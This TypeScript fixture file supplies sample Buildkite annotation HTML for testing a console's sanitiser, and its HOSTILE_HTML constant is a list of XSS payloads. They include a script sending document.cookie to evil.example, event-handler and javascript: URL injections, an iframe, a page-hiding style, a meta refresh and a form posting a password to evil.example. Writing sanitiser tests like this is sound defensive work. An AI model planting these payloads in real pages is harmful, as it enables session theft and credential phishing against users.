export type AnnotationStyle = "success" | "info" | "warning" | "error";

export interface AnnotationRecord {
  id: string;
  buildUuid: string;
  context: string;
  style: AnnotationStyle;
  scope: "build" | "job";
  jobUuid: string | null;
  priority: number;
  /** As Buildkite renders the annotation's Markdown: HTML the console must sanitise before showing it. */
  bodyHtml: string;
  createdAt: number;
  updatedAt: number;
}

// Bodies as buildkite-agent annotate produces them from typical Markdown (tables, details, artifact links).

export function testFailuresHtml(failures: readonly { name: string; file: string; message: string }[]): string {
  const items = failures
    .map(
      (failure) =>
        `<li><details><summary><code>${failure.name}</code> in <code>${failure.file}</code></summary>\n<pre class="term"><code>${failure.message}</code></pre>\n</details></li>`,
    )
    .join("\n");
  return `<h3>${failures.length} test failure${failures.length === 1 ? "" : "s"}</h3>\n<ul>\n${items}\n</ul>\n<p>See <a href="artifact://reports/junit.xml">junit.xml</a> for the full report.</p>`;
}

export function coverageHtml(percent: string): string {
  return `<p>Coverage is <strong>${percent}%</strong> (<a href="artifact://coverage/index.html">report</a>).</p>\n<table>\n<thead><tr><th>Kind</th><th>Covered</th></tr></thead>\n<tbody>\n<tr><td>Lines</td><td>${percent}%</td></tr>\n<tr><td>Branches</td><td>71.9%</td></tr>\n</tbody>\n</table>\n<p><img src="artifact://screenshots/coverage-trend.png" alt="Coverage trend" width="160"></p>`;
}

export const LIGHTHOUSE_HTML = `<p>:warning: Lighthouse performance score dropped from <strong>92</strong> to <strong>81</strong> on <code>/checkout</code>.</p>\n<ul>\n<li>Largest Contentful Paint: 3.4 s</li>\n<li>Total Blocking Time: 410 ms</li>\n</ul>`;

export const DEPLOY_HTML = `<p>:rocket: Preview deployed to <a href="https://preview-4812.acme.example">preview-4812.acme.example</a></p>`;

export const TERRAFORM_HTML = `<p><strong>Plan:</strong> <span class="term-fg32">3 to add</span>, <span class="term-fg33">1 to change</span>, <span class="term-fg31">0 to destroy</span>.</p>\n<pre class="term"><code>+ aws_s3_bucket.assets\n~ aws_iam_role.ci</code></pre>`;

/**
 * Everything a sanitiser must remove: scripts, event handlers, `javascript:` URLs, frames, styles, forms
 * and a meta refresh, mixed with harmless markup that must survive.
 */
export const HOSTILE_HTML = [
  `<p>Release notes for <strong>checkout v2</strong> <em>(safe text that must stay)</em>.</p>`,
  `<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>`,
  `<img src="x" onerror="alert('img onerror')">`,
  `<a href="javascript:alert('href')">Open the dashboard</a>`,
  `<a href="https://docs.acme.example/runbook" onclick="alert('onclick')" target="_blank">Runbook</a>`,
  `<iframe src="https://evil.example/frame" width="600" height="400"></iframe>`,
  `<style>body { display: none !important; }</style>`,
  `<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button type="submit">Sign in again</button></form>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" onmouseover="alert('overlay')">Overlay</div>`,
  `<svg><script>alert('svg')</script></svg>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<a href="artifact://reports/junit.xml">junit.xml (a safe artifact link)</a>`,
].join("\n");
